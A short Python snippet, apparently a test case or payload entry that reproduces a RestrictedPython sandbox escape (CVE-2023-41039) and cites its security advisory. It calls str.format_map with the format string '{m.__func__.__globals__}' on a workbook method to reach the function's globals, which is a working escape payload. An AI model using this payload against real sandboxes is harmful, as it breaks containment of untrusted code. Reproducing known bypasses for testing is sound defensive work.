# why: format_map bound to a plain name walks from a method of the workbook to its globals (CVE-2023-41039).
# source: https://github.com/zopefoundation/RestrictedPython/security/advisories/GHSA-xjw2-6jm9-rf67
render = str.format_map
render("{m.__func__.__globals__}", {"m": workbook["Data"].append})
